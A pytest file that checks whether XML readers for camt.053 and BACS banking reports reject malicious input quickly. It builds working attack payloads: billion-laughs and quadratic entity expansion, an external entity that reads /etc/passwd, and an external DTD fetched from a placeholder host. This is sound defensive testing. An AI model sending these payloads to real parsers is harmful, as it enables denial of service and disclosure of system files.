"""Attacks by XML are refused by name, at once and in little memory."""

import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from consumers.formats import (
    arudd,
    bacs_advices,
    bacs_arrival,
    bacs_claims,
    bacs_credits,
    bacs_input,
    bacs_withdrawal,
    camt053,
)
from consumers.formats.errors import UnreadableFileError

LAUGHS = "".join(
    f'<!ENTITY l{n} "{"&l" + str(n - 1) + ";" if n else "ha"}{"&l0;" * 9 if n > 1 else ""}">'
    for n in range(12)
)
BODY = "<Document><BkToCstmrStmt>{}</BkToCstmrStmt></Document>"


def attacks(body: str, record: str) -> dict[str, str]:
    """Every attack on a document whose frame is `body`, with `record` inside."""
    open_, shut = f"<{record}>", f"</{record}>"
    return {
        "billion laughs": f"<!DOCTYPE D [{LAUGHS}]>" + body.format("&l11;"),
        "external entity": '<!DOCTYPE D [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + body.format("&x;"),
        "external document type": '<!DOCTYPE D SYSTEM "http://192.0.2.1/evil.dtd">'
        + body.format(""),
        "quadratic blow-up": f'<!DOCTYPE D [<!ENTITY a "{"A" * 100_000}">]>'
        + body.format("&a;" * 9999),
        "undeclared entity": body.format("&nbsp;"),
        "deep nesting": body.format(open_ + "<a>" * 100_000),
        "many names": body.format("".join(f"<a{n}/>" for n in range(30_000))),
        "one huge text": body.format(f"{open_}<Id>" + "x" * 5_000_000 + f"</Id>{shut}"),
        "one huge comment": body.format("<!--" + "x" * 5_000_000 + "-->"),
        "one huge attribute": body.format(f'<{record} a="' + "x" * 5_000_000 + '"/>'),
        "many fields": body.format(open_ + "<Id>1</Id>" * 300_000 + shut),
        "entity-like encoding": "<?xml version='1.0' encoding='utf-7'?>" + body.format("+ADw-"),
        "codec of a program": "<?xml version='1.0' encoding='unicode_escape'?>" + body.format(""),
        "unknown encoding": "<?xml version='1.0' encoding='klingon'?>" + body.format(""),
        "control character": body.format(f"{open_}<Id>\x01</Id>{shut}"),
    }


ATTACKS = attacks(BODY, "Stmt")
BACS = {
    "MessagingAdvices": (bacs_advices, "MessagingAdvice"),
    "ARUDD": (arudd, "OriginatingAccountRecord"),
    "ARUCS": (bacs_credits, "OriginatingAccountRecord"),
    "Document": (bacs_claims, "NewAdvices"),
    "InputReport": (bacs_input, "Submission"),
    "WithdrawalReport": (bacs_withdrawal, "Submission"),
    "ArrivalReport": (bacs_arrival, "Submission"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused_quickly(tmp_path: Path, name: str) -> None:
    path = tmp_path / "attack.xml"
    path.write_text(ATTACKS[name], encoding="utf-8")
    started = time.process_time()
    with pytest.raises(UnreadableFileError, match=r"attack\.xml, line \d+: XML"):
        list(camt053.read(path))
    assert time.process_time() - started < 2


@pytest.mark.parametrize("name", ATTACKS)
@pytest.mark.parametrize("report", BACS)
def test_an_attack_by_a_report_of_bacs_is_refused_quickly(
    tmp_path: Path, report: str, name: str
) -> None:
    module, record = BACS[report]
    root = "VocaDocument" if module is bacs_claims else "BACSDocument"
    frame = f"<{root}><Data><{report}>{{}}</{report}></Data></{root}>"
    path = tmp_path / "attack.xml"
    path.write_text(attacks(frame, record)[name], encoding="utf-8")
    started = time.process_time()
    with pytest.raises(UnreadableFileError, match=r"attack\.xml, line \d+: XML"):
        list(module.read(path))
    assert time.process_time() - started < 2


@pytest.mark.parametrize("report", ["MessagingAdvices", "Document", "ArrivalReport"])
def test_the_same_frame_without_an_attack_is_read(tmp_path: Path, report: str) -> None:
    module, _ = BACS[report]
    root = "VocaDocument" if module is bacs_claims else "BACSDocument"
    path = tmp_path / "harmless.xml"
    path.write_text(f"<{root}><Data><{report}></{report}></Data></{root}>", encoding="utf-8")
    assert len(list(module.read(path))) == (1 if module is bacs_arrival else 0)


def test_a_document_type_is_refused_in_utf_16_too(tmp_path: Path) -> None:
    path = tmp_path / "attack.xml"
    path.write_bytes(ATTACKS["external entity"].encode("utf-16"))
    with pytest.raises(UnreadableFileError, match="DOCTYPE"):
        list(camt053.read(path))


def test_an_entry_of_too_many_payments_is_refused(
    camt_file: Callable[..., Path], entry: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(camt053, "PAYMENTS_PER_ENTRY_MAX", 3)
    path = camt_file(entry(extra=f"<NtryDtls>{'<TxDtls></TxDtls>' * 4}</NtryDtls>"))
    with pytest.raises(UnreadableFileError, match="TxDtls"):
        list(camt053.read(path))


def test_a_file_of_too_many_rows_is_refused(
    camt_file: Callable[..., Path], entry: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(camt053, "FILE_ROWS_MAX", 3)
    rows: Iterator[object] = camt053.read(camt_file(entry() * 4))
    with pytest.raises(UnreadableFileError, match="rows '4'"):
        list(rows)
